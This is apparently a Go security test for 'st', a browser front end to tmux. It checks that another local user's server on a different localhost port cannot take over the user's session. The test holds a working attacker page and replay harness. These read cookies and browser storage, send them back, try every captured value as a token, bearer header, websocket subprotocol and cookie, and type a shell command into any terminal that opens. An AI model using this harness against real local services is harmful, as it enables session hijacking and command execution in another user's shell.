package browser

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/coder/websocket"

	"github.com/sophonz/st/internal/testutil"
)

// runOtherPortServer lets this test binary be the other user's server as
// well (see otherPortServer): TestAnotherPortGetsNothing runs a copy of it
// as another local user. TestMain calls it first.
func runOtherPortServer() {
	if target := os.Getenv("ST_TEST_OTHER_PORT_TARGET"); target != "" {
		os.Exit(otherPortServer(target, os.Getenv("ST_TEST_OTHER_PORT_PANE"), os.Getenv("ST_TEST_OTHER_PORT_TYPE")))
	}
}

// TestAnotherPortGetsNothing: the user's page is open on the real st (a
// shell in its tmux session), and the same browser visits a page of
// another local user's server on another port of 127.0.0.1. That server
// records everything the browser sends it (cookies, headers, the URL) and
// everything its page's script can read (document.cookie, its storage)
// or make the browser do (a fetch and both websockets of st, from its
// origin), and replays each of them against st's /st/api/state,
// /st/api/events and /st/term, typing a command into the user's shell
// where a terminal opens. Nothing opens, and the command never runs.
func TestAnotherPortGetsNothing(t *testing.T) {
	other := testutil.NewOtherUser(t)
	r := newRealEnv(t)
	r.start()
	stURL := webURL(t, r)
	u, _ := url.Parse(stURL)
	stBase := u.Scheme + "://" + u.Host

	mark := filepath.Join(r.dir, "typed-by-another-user")
	typed := "echo st-another-port-was-here > " + mark + "\r"
	o := startOtherPortServer(t, other, stBase, r.coord, typed)

	// The user's page, live on st.
	ctx := newBrowser(t, 1280, 800)
	do(t, ctx, chromedp.Navigate(stURL))
	waitJS(t, ctx, `document.querySelector("#conn").dataset.state === "live"`, 30*time.Second)

	// Another tab of the same browser visits the other user's pages.
	tab := newTab(t, ctx)
	for _, path := range []string{"/st/", "/", "/st/api/state"} {
		do(t, tab, chromedp.Navigate(o.base+path))
		waitJS(t, tab, `document.title === "reported"`, 60*time.Second)
	}

	captures, reports, replays := o.split()
	t.Logf("the other user's server (uid %d) received %d requests and %d reports of its page, and replayed %d times",
		other.UID, len(captures), len(reports), len(replays))
	logCaptures(t, captures, reports)
	// Not vacuous: the browser went there three times, its page ran, and
	// every path was replayed.
	if len(captures) < 3 || len(reports) < 3 || len(replays) < 3*3 {
		t.Fatalf("the other server got %d requests and %d reports and made %d replays, want the browser's 3 visits replayed on 3 routes:\n%s",
			len(captures), len(reports), len(replays), strings.Join(o.lines(), "\n"))
	}
	for _, rep := range replays {
		var res replayResult
		if err := json.Unmarshal([]byte(rep), &res); err != nil {
			t.Fatalf("replay line %q: %v", rep, err)
		}
		if res.Opened {
			t.Errorf("the other user got into st: %s with %s: %s", res.Route, res.With, res.Result)
		}
	}
	for _, rep := range reports {
		if strings.Contains(rep, `"open"`) {
			t.Errorf("the other port's page opened a websocket of st: %s", rep)
		}
	}
	// The user's shell never ran what the other user typed.
	if _, err := os.Stat(mark); err == nil {
		t.Errorf("%s exists: the other user's keys ran in the user's shell", mark)
	}
	if screen := r.capture(r.coord); strings.Contains(screen, "st-another-port-was-here") {
		t.Errorf("the other user's keys reached the user's shell:\n%s", screen)
	}
	// The user's page is still live: nothing above cost it its session.
	waitJS(t, ctx, `document.querySelector("#conn").dataset.state === "live"`, 30*time.Second)
}

// newTab opens another tab in the browser of ctx (the same profile: its
// cookies and storage), for the test's length.
func newTab(t *testing.T, ctx context.Context) context.Context {
	t.Helper()
	tab, cancel := chromedp.NewContext(ctx)
	t.Cleanup(cancel)
	// The first Do makes the tab, which lives as long as the context it
	// was made with: this one, with no timeout.
	if err := chromedp.Do(tab); err != nil {
		t.Fatalf("open a tab: %v", err)
	}
	return tab
}

// logCaptures says what the other user's server received, and what its
// page read and tried.
func logCaptures(t *testing.T, captures, reports []string) {
	t.Helper()
	for _, c := range captures {
		var req struct {
			Method, URL string
			Header      http.Header
		}
		json.Unmarshal([]byte(c), &req)
		names := slices.Sorted(maps.Keys(req.Header))
		t.Logf("received: %s %s, with %s (Cookie: %q)", req.Method, req.URL, strings.Join(names, ", "), req.Header.Get("Cookie"))
	}
	for _, rep := range reports {
		t.Logf("its page read and tried: %s", rep)
	}
}

// webURL is the address st web prints, with its token.
func webURL(t *testing.T, r *realEnv) string {
	t.Helper()
	out := strings.TrimSpace(r.st("web"))
	m := regexp.MustCompile(`http://127\.0\.0\.1:\d+/\S*token=\S+`).FindString(out)
	if m == "" {
		t.Fatalf("st web printed %q, want a URL with its token", out)
	}
	return m
}

// otherPort is the other user's server, seen from the test.
type otherPort struct {
	base string
	mu   sync.Mutex
	out  []string
}

func (o *otherPort) lines() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return slices.Clone(o.out)
}

// split sorts what the server printed: the requests it received, what its
// page reported, and its replays against st.
func (o *otherPort) split() (captures, reports, replays []string) {
	for _, l := range o.lines() {
		kind, rest, _ := strings.Cut(l, " ")
		switch kind {
		case "CAPTURE":
			captures = append(captures, rest)
		case "REPORT":
			reports = append(reports, rest)
		case "REPLAY":
			replays = append(replays, rest)
		}
	}
	return captures, reports, replays
}

// startOtherPortServer runs otherPortServer from a copy of this test
// binary as user u, and returns once it listens. It ends when the test
// does (its stdin closed; killed by its pid if it lingers).
func startOtherPortServer(t *testing.T, u testutil.OtherUser, target, pane, typed string) *otherPort {
	t.Helper()
	bin := testutil.CopySelf(t)
	cmd := u.Command([]string{"PATH=/usr/bin:/bin", "HOME=/nonexistent",
		"ST_TEST_OTHER_PORT_TARGET=" + target, "ST_TEST_OTHER_PORT_PANE=" + pane, "ST_TEST_OTHER_PORT_TYPE=" + typed}, bin)
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatalf("start the other user's server: %v", err)
	}
	exited := make(chan struct{})
	go func() { cmd.Wait(); close(exited) }()
	t.Cleanup(func() {
		stdin.Close()
		select {
		case <-exited:
		case <-time.After(10 * time.Second):
			cmd.Process.Kill()
			<-exited
		}
	})
	o := &otherPort{}
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("the other user's server printed:\n%s", strings.Join(o.lines(), "\n"))
		}
	})
	listening := make(chan string, 1)
	go func() {
		sc := bufio.NewScanner(stdout)
		sc.Buffer(make([]byte, 1<<20), 1<<20)
		for sc.Scan() {
			line := sc.Text()
			if addr, ok := strings.CutPrefix(line, "LISTEN "); ok {
				listening <- addr
				continue
			}
			o.mu.Lock()
			o.out = append(o.out, line)
			o.mu.Unlock()
		}
	}()
	select {
	case addr := <-listening:
		o.base = "http://" + addr
	case <-exited:
		t.Fatalf("the other user's server exited before it listened")
	case <-time.After(30 * time.Second):
		t.Fatalf("the other user's server did not listen within 30 s")
	}
	return o
}

// replayResult is one try of the other user's server to get into st.
type replayResult struct {
	Route  string `json:"route"`
	With   string `json:"with"`
	Result string `json:"result"`
	Opened bool   `json:"opened"` // it got in: a 2xx, or a websocket open
}

// otherPortServer is the other local user's server (run as that user by
// TestAnotherPortGetsNothing): on 127.0.0.1, a free port. Every request
// it gets is printed (CAPTURE), answered with a page whose script reports
// back what it can read and do (REPORT), and replayed against st at target
// (REPLAY) before the answer goes, so that the page's title "reported"
// means all of it is done. It ends when its stdin closes.
func otherPortServer(target, pane, typed string) int {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	var mu sync.Mutex // one replay at a time, lines whole
	emit := func(kind string, v any) {
		b, _ := json.Marshal(v)
		fmt.Printf("%s %s\n", kind, b)
	}
	a := &attacker{target: target, pane: pane, typed: typed, emit: emit}
	http.HandleFunc("POST /__report", func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		mu.Lock()
		defer mu.Unlock()
		var found map[string]any
		json.Unmarshal(body, &found)
		emit("REPORT", found)
		a.replayValues(found)
		w.Write([]byte("ok"))
	})
	http.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		emit("CAPTURE", map[string]any{"method": r.Method, "url": r.URL.String(), "header": r.Header})
		a.replayRequest(r)
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, attackerPage(target, pane, typed))
	})
	fmt.Printf("LISTEN %s\n", ln.Addr())
	go http.Serve(ln, nil)
	io.Copy(io.Discard, os.Stdin)
	return 0
}

// attackerPage is the other user's page. Its script reads what a page of
// that origin can, makes the browser send what it would to st (a fetch
// with credentials, both websockets, typing where one opens), and reports
// it all back.
func attackerPage(target, pane, typed string) string {
	js, _ := json.Marshal(map[string]string{"http": target, "ws": "ws" + strings.TrimPrefix(target, "http"), "pane": pane, "typed": typed})
	return `<!doctype html><meta charset="utf-8"><title>another user's page</title><body>another user's server
<script>
(async () => {
  const st = ` + string(js) + `;
  const found = {cookie: document.cookie, local: {...localStorage}, session: {...sessionStorage}, ws: {}};
  try { await fetch(st.http + '/st/api/state', {credentials: 'include', mode: 'no-cors'}); found.fetch = 'sent'; }
  catch (e) { found.fetch = String(e); }
  for (const p of ['/st/api/events', '/st/term?pane=' + encodeURIComponent(st.pane)]) {
    found.ws[p] = await new Promise((done) => {
      const ws = new WebSocket(st.ws + p);
      ws.binaryType = 'arraybuffer';
      ws.onopen = () => { ws.send(new TextEncoder().encode(st.typed)); setTimeout(() => done('open'), 500); };
      ws.onclose = () => done('refused');
      setTimeout(() => done('no answer'), 10000);
    });
  }
  await fetch('/__report', {method: 'POST', body: JSON.stringify(found)});
  document.title = 'reported';
})();
</script>`
}

// attacker replays what the other user's server got against st.
type attacker struct {
	target, pane, typed string
	emit                func(kind string, v any)
}

// hopByHop are the headers of one connection, not worth replaying.
var hopByHop = map[string]bool{"Host": true, "Connection": true, "Upgrade": true, "Content-Length": true,
	"Sec-Websocket-Key": true, "Sec-Websocket-Version": true, "Sec-Websocket-Extensions": true}

// replayRequest replays a request the browser sent here: its headers
// (cookies and all) on each of st's routes, and its URL's query as is.
func (a *attacker) replayRequest(r *http.Request) {
	h := http.Header{}
	for k, v := range r.Header {
		if !hopByHop[k] {
			h[k] = v
		}
	}
	a.tryAll("the browser's headers to this port", r.URL.RawQuery, h)
	var values []string
	for _, c := range r.Cookies() {
		values = append(values, c.Value)
	}
	for _, vs := range r.URL.Query() {
		values = append(values, vs...)
	}
	a.tryValues(values)
}

// replayValues replays what the page's script read.
func (a *attacker) replayValues(found map[string]any) {
	var values []string
	var walk func(v any)
	walk = func(v any) {
		switch x := v.(type) {
		case string:
			values = append(values, x)
			for _, part := range strings.Split(x, ";") { // document.cookie
				if _, val, ok := strings.Cut(strings.TrimSpace(part), "="); ok {
					values = append(values, val)
				}
			}
		case map[string]any:
			for _, y := range x {
				walk(y)
			}
		}
	}
	walk(found["cookie"])
	walk(found["local"])
	walk(found["session"])
	a.tryValues(values)
}

// tryValues tries each value as every credential st could take: the
// query's token, a bearer header, a websocket subprotocol, a cookie.
func (a *attacker) tryValues(values []string) {
	seen := map[string]bool{}
	for _, v := range values {
		if v == "" || seen[v] {
			continue
		}
		seen[v] = true
		short := v
		if len(short) > 12 {
			short = short[:12] + "…"
		}
		a.tryAll("?token="+short, "token="+url.QueryEscape(v), nil)
		a.tryAll("Authorization: Bearer "+short, "", http.Header{"Authorization": {"Bearer " + v}})
		a.tryAll("Sec-WebSocket-Protocol st-session."+short, "", http.Header{"Sec-WebSocket-Protocol": {"st, st-session." + v}})
		a.tryAll("Cookie st="+short, "", http.Header{"Cookie": {"st=" + v}})
	}
}

// tryAll tries one way in on st's state, its events socket and its
// terminal socket (typing into the user's shell if it opens).
func (a *attacker) tryAll(with, query string, h http.Header) {
	join := func(path string) string {
		if query == "" {
			return path
		}
		if strings.Contains(path, "?") {
			return path + "&" + query
		}
		return path + "?" + query
	}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	res := replayResult{Route: "/st/api/state", With: with}
	req, _ := http.NewRequestWithContext(ctx, "GET", a.target+join("/st/api/state"), nil)
	for k, v := range h {
		req.Header[k] = v
	}
	if resp, err := http.DefaultClient.Do(req); err != nil {
		res.Result = err.Error()
	} else {
		b, _ := io.ReadAll(io.LimitReader(resp.Body, 200))
		resp.Body.Close()
		res.Result, res.Opened = fmt.Sprintf("%d %q", resp.StatusCode, b), resp.StatusCode/100 == 2
	}
	a.emit("REPLAY", res)
	for _, path := range []string{"/st/api/events", "/st/term?pane=" + url.QueryEscape(a.pane)} {
		a.emit("REPLAY", a.trySocket(ctx, path, join(path), with, h))
	}
}

// trySocket opens one of st's websockets with h; where a terminal opens,
// it types into it and reads until its echo shows the keys arrived.
func (a *attacker) trySocket(ctx context.Context, route, path, with string, h http.Header) replayResult {
	res := replayResult{Route: route, With: with}
	opts := &websocket.DialOptions{HTTPHeader: h.Clone()}
	for k, vs := range opts.HTTPHeader {
		if !strings.EqualFold(k, "Sec-WebSocket-Protocol") {
			continue
		}
		delete(opts.HTTPHeader, k)
		for _, sp := range strings.Split(strings.Join(vs, ","), ",") {
			opts.Subprotocols = append(opts.Subprotocols, strings.TrimSpace(sp))
		}
	}
	c, resp, err := websocket.Dial(ctx, "ws"+strings.TrimPrefix(a.target, "http")+path, opts)
	switch {
	case err == nil:
		res.Opened, res.Result = true, "websocket open"
		defer c.CloseNow()
		if !strings.HasPrefix(route, "/st/term") {
			return res
		}
		c.Write(ctx, websocket.MessageBinary, []byte(a.typed))
		rctx, cancel := context.WithTimeout(ctx, 5*time.Second)
		defer cancel()
		var seen strings.Builder
		for !strings.Contains(seen.String(), "st-another-port-was-here") {
			_, b, err := c.Read(rctx)
			if err != nil {
				break
			}
			seen.Write(b)
		}
		res.Result += ", typed"
	case resp != nil:
		res.Opened = resp.StatusCode == http.StatusSwitchingProtocols
		res.Result = fmt.Sprintf("%d %v", resp.StatusCode, err)
	default:
		res.Result = err.Error()
	}
	return res
}
